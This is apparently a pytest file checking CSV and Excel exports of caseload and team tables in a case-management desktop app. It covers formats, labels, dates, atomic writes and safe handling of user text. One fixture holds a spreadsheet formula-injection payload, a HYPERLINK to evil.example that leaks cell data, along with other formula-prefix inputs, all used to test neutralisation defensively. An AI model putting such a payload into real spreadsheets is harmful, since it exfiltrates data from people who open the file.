"""CSV and Excel exports of the team tables, read back; a failed write leaves nothing behind."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import openpyxl
import pandas as pd
import pytest

from imh_desktop.domain.errors import DiskFullError, DomainError
from imh_desktop.reports.labels import label
from imh_desktop.services.common import export
from imh_desktop.services.team import dashboard as team
from tests.factories import TODAY

NOV = team.period_for("this_month", TODAY)


@pytest.fixture
def out(tmp_path):
    """An empty folder for the files (the test database lives in tmp_path)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


@pytest.fixture
def data(as_user, agency):
    return team.load_team(as_user(agency.ids["ssupervisor"]), NOV)


def test_team_table_to_xlsx(data, out):
    frame = pd.concat([data.team, pd.DataFrame([data.totals()])], ignore_index=True)
    path = export.write_table(
        frame, team.TEAM_COLUMNS, out / "team.xlsx", "xlsx", "Team", totals_last=True
    )
    ws = openpyxl.load_workbook(path).active
    assert ws.title == "Team" and ws.freeze_panes == "A2"
    titles = [c.value for c in ws[1]]
    assert titles == [c.title for c in team.TEAM_COLUMNS]
    assert all(c.font.bold for c in ws[1])
    assert ws["A4"].value == "Team total" and all(c.font.bold for c in ws[4])
    assert not any(c.font.bold for c in ws[2])
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert list(rows) == ["Ana Specialist", "Ben Specialist", "Team total"]
    percent = titles.index("% of expected")
    ana = rows["Ana Specialist"]
    # 5 completed / 6.619 expected = 75.5 %, stored as the fraction 0.755 with a % format
    assert ana[percent].value == pytest.approx(5 / (25 / 7 + 15 / 14 + 25 / 30 + 8 / 7))
    assert ana[percent].number_format == "0%"
    assert ana[titles.index("Expected")].number_format == "0.0"
    assert ana[titles.index("Late notes")].value == 3
    # "Specialist" is as wide as its longest name plus a margin (XlsxWriter adds the
    # font's padding, under one character); every column has a width
    assert ws.column_dimensions["A"].width == pytest.approx(len("Ana Specialist") + 2, abs=1)
    letters = [openpyxl.utils.get_column_letter(i + 1) for i in range(len(titles))]
    assert all(
        ws.column_dimensions[x].width >= len(t) for x, t in zip(letters, titles, strict=True)
    )


def test_family_table_to_xlsx_has_real_dates(data, out):
    path = export.write_xlsx(data.families, team.FAMILY_COLUMNS, out / "families.xlsx", label=label)
    ws = openpyxl.load_workbook(path).active
    titles = [c.value for c in ws[1]]
    by_case = {r[titles.index("Family")].value: r for r in ws.iter_rows(min_row=2)}
    # fixed lists as people read them, not as stored ("on_hold")
    status, frequency = titles.index("Status"), titles.index("Frequency")
    assert (by_case["Ayala"][status].value, by_case["Ayala"][frequency].value) == (
        "Active", "Weekly",
    )  # fmt: skip
    assert by_case["Evans"][status].value == "On hold"
    enrolled = by_case["Ayala"][titles.index("Enrolled")]
    assert enrolled.is_date and enrolled.value.date() == dt.date(2026, 3, 10)
    assert enrolled.number_format == export.EXCEL_DATE_FORMAT
    # Evans is on hold: no percent, an empty cell rather than 0 or "nan"
    assert by_case["Evans"][titles.index("% of expected")].value is None
    # Dinh is closed: days since contact is not counted
    assert by_case["Dinh"][titles.index("Days since contact")].value is None


def test_caseload_to_csv(db, as_user, data, out):
    frame = team.caseload_frame(as_user(team_actor(db)))
    path = export.write_table(
        frame, team.CASELOAD_COLUMNS, out / "caseload.csv", "csv", label=label
    )
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["Family"] for r in rows] == ["Ayala", "Brook", "Castro", "Evans", "Gold"]
    assert [r["Status"] for r in rows] == ["Active", "Active", "Active", "On hold", "Active"]
    ayala = rows[0]
    assert ayala["Frequency"] == "Weekly"
    assert ayala["Enrolled"] == "2026-03-10" and ayala["Last visit"] == "2026-11-17"
    assert ayala["% of expected"] == "84.0" and ayala["Expected"] == "3.6"
    assert ayala["Visits"] == "3" and ayala["Late notes"] == "3"
    assert rows[3]["% of expected"] == ""  # on hold: nothing expected


def test_a_fixed_list_column_needs_its_labels(db, as_user, data, out):
    """Without labels the file would show stored values ("on_hold"): refused, nothing written."""
    frame = team.caseload_frame(as_user(team_actor(db)))
    with pytest.raises(ValueError, match="status"):
        export.write_table(frame, team.CASELOAD_COLUMNS, out / "caseload.csv", "csv")
    assert list(out.iterdir()) == []
    spanish = export.labelled(frame, team.CASELOAD_COLUMNS, lambda m: label(m, "es"))
    assert spanish["status"].tolist()[3] == "En pausa"


def team_actor(db) -> int:
    """The supervisor's id, looked up by username as at sign-in."""
    from imh_desktop.services.admin.staff import find_staff

    return find_staff(db, "ssupervisor").id


def test_failed_write_keeps_the_old_file_and_leaves_no_temp(data, out, monkeypatch):
    import xlsxwriter

    target = out / "team.xlsx"
    target.write_bytes(b"the previous export")

    def broken_close(self):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsxwriter.Workbook, "close", broken_close)
    with pytest.raises(DiskFullError, match=r"The disk is full, so .* was not written"):
        export.write_xlsx(data.team, team.TEAM_COLUMNS, target)
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in out.iterdir()] == ["team.xlsx"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&D2,"Open record")'


def hostile_frame(data):
    bad = data.team.copy()
    bad["specialist"] = bad["specialist"].astype(object)
    bad.loc[0, "specialist"] = HOSTILE
    bad.loc[1, "specialist"] = "Ben\x00\x07 Spec\x1bialist\ttab"
    return bad


def test_csv_neutralises_formulas_and_drops_control_characters(data, out):
    path = export.write_csv(hostile_frame(data), team.TEAM_COLUMNS, out / "team.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][0] == "'" + HOSTILE  # OWASP: a leading quote makes it text
    assert rows[2][0] == "Ben Specialist\ttab"
    assert "\x00" not in path.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(prefix):
    assert export.csv_cell(prefix + "1+1").startswith("'")
    assert export.csv_cell("1+1") == "1+1" and export.csv_cell(-3) == -3


def test_xlsx_writes_user_text_as_text_never_a_formula(data, out):
    path = export.write_xlsx(hostile_frame(data), team.TEAM_COLUMNS, out / "team.xlsx")
    ws = openpyxl.load_workbook(path).active
    cell = ws["A2"]
    assert cell.data_type == "s" and cell.value == HOSTILE  # a string cell, not "f"
    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell
    assert ws["A3"].value == "Ben Specialist\ttab" and ws["A3"].data_type == "s"
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the file


def test_rows_of_display_text_are_written_the_same_safe_way(out):
    header = ["Family", "Caregiver"]
    rows = [["=1+1 family", "@SUM(A1)"], ["Okafor\x07 family", "-2"]]
    csv_path = export.write_rows(header, rows, out / "t.csv", "csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [header, ["'=1+1 family", "'@SUM(A1)"],
                                       ["Okafor family", "'-2"]]  # fmt: skip
    ws = openpyxl.load_workbook(export.write_rows(header, rows, out / "t.xlsx", "xlsx")).active
    assert [[c.value for c in r] for r in ws.iter_rows()] == [header, *[
        ["=1+1 family", "@SUM(A1)"], ["Okafor family", "-2"]]]  # fmt: skip
    assert all(c.data_type == "s" for r in ws.iter_rows() for c in r)


@pytest.mark.parametrize(
    ("name", "fmt", "field"),
    [("t.xlsx", "pdf", "format"), ("t.txt", "csv", "out"), ("missing/t.csv", "csv", "out")],
)
def test_bad_targets_are_refused(data, out, name, fmt, field):
    with pytest.raises(DomainError) as err:
        export.write_table(data.team, team.TEAM_COLUMNS, out / name, fmt)
    assert err.value.field == field
    assert list(out.iterdir()) == []


def test_frame_rows_gives_plain_values(data):
    rows = export.frame_rows(
        data.families, ["family", "enrolled_on", "percent", "days_since_contact"]
    )
    by_name = {r[0]: r for r in rows}
    assert by_name["Ayala"][1] == dt.date(2026, 3, 10)
    assert type(by_name["Ayala"][2]) is float and by_name["Evans"][2] is None
    assert type(by_name["Ayala"][3]) is int and by_name["Dinh"][3] is None
